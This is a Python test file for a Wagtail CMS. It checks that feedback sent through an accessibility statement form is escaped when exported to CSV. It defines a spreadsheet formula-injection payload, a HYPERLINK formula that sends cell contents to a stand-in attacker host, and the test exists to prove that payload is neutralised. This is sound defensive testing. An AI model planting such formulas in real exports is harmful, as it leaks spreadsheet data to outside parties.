"""Feedback sent through the accessibility statement's form cannot become a formula in the CSV export."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from cms.models import FeedbackFormPage
from cms.setup import setup_site

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def test_form_submissions_csv_export_neutralises_formulas(client, make_user):
    setup_site()
    page = FeedbackFormPage.objects.get(slug="palaute", locale__language_code="fi")
    feedback, email = (field.clean_name for field in page.form_fields.order_by("sort_order"))
    FormSubmission.objects.create(page=page, form_data={feedback: FORMULA, email: "-1@example.org"})
    client.force_login(make_user(role=None, superuser=True))
    response = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[1][1:] == ["'" + FORMULA, "'-1@example.org"]
